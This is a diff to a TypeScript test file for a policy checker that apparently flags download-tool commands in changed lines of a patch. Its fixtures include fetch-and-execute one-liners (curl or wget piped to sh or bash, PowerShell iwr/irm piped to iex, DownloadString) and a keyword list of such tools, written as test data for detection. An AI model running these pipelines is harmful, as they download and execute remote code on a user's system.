@@ -1,9 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { emptyPolicy } from '../../src/config/policy.js';
+import { lineHint } from '../../src/policy/line-hints.js';
 import { createPolicyContext } from '../../src/policy/policy-context.js';
 import { copilotSnapshot, file } from '../factories.js';
 
-/** Lines a case-insensitive download-tool prefilter must consider, and some it must not. */
+/** Lines a case-insensitive download-tool hint must admit, and some it must not. */
 const LINES = [
   'curl -fsSL https://x.test/i.sh | sh',
   'CURL https://x.test | bash',
@@ -12,39 +13,46 @@ const LINES = [
   'İwr https://x.test | iex', // `İ` lower-cases to `i` and a combining dot
   'IRM https://x.test | iex',
   '(New-Object Net.WebClient).DownloadString("https://x.test")',
-  'downloadſtring', // long s: folded to `s` under /iu only
   'const curly = 1;',
   'nothing to see',
   'cur l w get',
 ];
 
-function contextWith(lines: readonly string[]) {
-  const patch = [`@@ -1,1 +1,${lines.length + 1} @@`, ' context', ...lines.map((line) => `+${line}`)].join('\n');
-  const context = createPolicyContext(emptyPolicy(), copilotSnapshot({ files: [file('scripts/setup.sh', patch)] }), null);
+const TOOLS = lineHint('test: download tools', ['curl', 'wget', 'iwr', 'irm', 'invoke-', 'downloadstring']);
+
+function contextWith(lines: readonly string[], path = 'scripts/setup.sh') {
+  const patch = [`@@ -1,1 +1,${lines.length + 1} @@`, ' context', '-curl removed | sh', ...lines.map((line) => `+${line}`)].join('\n');
+  const context = createPolicyContext(emptyPolicy(), copilotSnapshot({ files: [file(path, patch)] }), null);
   const changed = context.files[0];
   if (!changed) throw new Error('no file');
   return { context, changed };
 }
 
-/** What the lower-case twin finds over each lower-cased line on its own: the lines it must cover. */
-function reference(lines: readonly string[], pattern: RegExp): number[] {
-  return lines.flatMap((line, index) => (new RegExp(pattern.source).test(line.toLowerCase()) ? [index] : []));
-}
-
-describe('candidateLinesFolded', () => {
-  it('finds every line the lower-cased twin finds, for a literal alternation run case-insensitively over the patch', () => {
-    const pattern = /curl|wget|iwr|irm|invoke-|downloadstring/g;
+describe('candidateLines', () => {
+  it('gives the added lines that hold a hint word in any ASCII case (İ as i, the Kelvin sign as k), never a removed one', () => {
     const { context, changed } = contextWith(LINES);
-    const found = context.candidateLinesFolded(changed, pattern);
-    expect(found).toEqual(expect.arrayContaining(reference(LINES, pattern)));
-    expect(found).toContain(3);
-    expect(found).not.toContain(9);
-    expect(found).not.toContain(10);
+    expect(context.candidateLines(changed, TOOLS)).toEqual([0, 1, 2, 3, 4, 5, 6, 7]);
   });
 
-  it('runs other patterns as the twin over the lower-cased text', () => {
-    const pattern = /\bcurl\b|İ/g;
+  it('gives nothing for a hint no line holds, and the same lines on every call', () => {
+    const none = lineHint('test: nowhere', ['zzzq']);
     const { context, changed } = contextWith(LINES);
-    expect(context.candidateLinesFolded(changed, pattern)).toEqual(reference(LINES, pattern));
+    expect(context.candidateLines(changed, none)).toEqual([]);
+    expect(context.candidateLines(changed, TOOLS)).toEqual(context.candidateLines(changed, TOOLS));
+  });
+
+  it('refuses a file it did not prepare', () => {
+    const { context, changed } = contextWith(LINES);
+    const copy = { ...changed };
+    expect(() => context.candidateLines(copy, TOOLS)).toThrow(/not a file of this policy context/);
+  });
+});
+
+describe('candidateLines after a hint made late', () => {
+  it('marks the file again, so the new hint finds its lines', () => {
+    const { context, changed } = contextWith(LINES);
+    expect(context.candidateLines(changed, TOOLS)).toHaveLength(8);
+    const late = lineHint('test: made late', ['nothing to']);
+    expect(context.candidateLines(changed, late)).toEqual([8]);
   });
 });
